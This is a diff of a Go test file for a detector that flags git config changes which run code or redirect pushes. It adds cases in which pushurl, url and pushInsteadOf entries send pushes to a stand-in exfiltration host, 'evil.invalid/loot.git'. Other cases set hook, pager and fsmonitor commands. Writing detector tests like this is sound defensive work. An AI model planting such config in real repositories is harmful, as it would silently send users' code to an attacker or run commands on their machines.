@@ -72,13 +72,26 @@ func TestGitConfigRuns(t *testing.T) {
 		"tar command":        "[tar \"tgz\"]\n\tcommand = evil\n",
 		"trailer command":    "[trailer \"x\"]\n\tcommand = evil\n",
 		"hook command":       "[hook \"x\"]\n\tcommand = evil\n",
-		"unparseable":        "[core\n\tfsmonitor = evil\n",
-		"binary":             "[core]\x00",
+		// Redirects: the user's next push goes where the run chose.
+		"pushurl":       "[remote \"origin\"]\n\tpushurl = https://evil.invalid/loot.git\n",
+		"second url":    "[remote \"origin\"]\n\turl = https://evil.invalid/loot.git\n",
+		"pushInsteadOf": "[url \"https://evil.invalid/\"]\n\tpushInsteadOf = https://example.invalid/\n",
+		"url insteadOf": "[url \"https://mirror/\"]\n\tinsteadOf = https://h/\n",
+		"unparseable":   "[core\n\tfsmonitor = evil\n",
+		"binary":        "[core]\x00",
 	}
 	for name, add := range code {
 		if got := GitConfigRuns([]byte(baseConfig), []byte(baseConfig+add)); len(got) == 0 {
 			t.Errorf("%s: %q not found as code-running", name, add)
 		}
+	}
+	// git remote set-url: the remote the config had, another URL.
+	if got := GitConfigRuns([]byte(baseConfig), []byte(strings.Replace(baseConfig, "example.invalid/r.git", "evil.invalid/loot.git", 1))); len(got) != 1 || !strings.Contains(got[0], "remote.origin.url") {
+		t.Errorf("a changed remote URL: %v", got)
+	}
+	// A clone's or a new module's config names its remote: not a redirect.
+	if got := GitConfigRuns(nil, []byte(baseConfig)); len(got) != 0 {
+		t.Errorf("a new config with its remote: %v", got)
 	}
 	// Changed, not only added.
 	if got := GitConfigRuns([]byte(baseConfig+"[core]\n\tpager = less\n"), []byte(baseConfig+"[core]\n\tpager = evil\n")); len(got) != 1 {
@@ -96,7 +109,6 @@ func TestGitConfigRuns(t *testing.T) {
 		"pager bool":          "[pager]\n\tbranch = false\n",
 		"alias plain":         "[alias]\n\tco = checkout\n",
 		"http":                "[http \"https://h/\"]\n\textraHeader = X: y\n",
-		"url insteadOf":       "[url \"https://mirror/\"]\n\tinsteadOf = https://h/\n",
 		"comment mention":     "# fsmonitor = evil\n[core]\n\tlogAllRefUpdates = true ; pager = evil\n",
 		"quoted hash":         "[branch \"x\"]\n\tdescription = \"a # b\"\n",
 	}
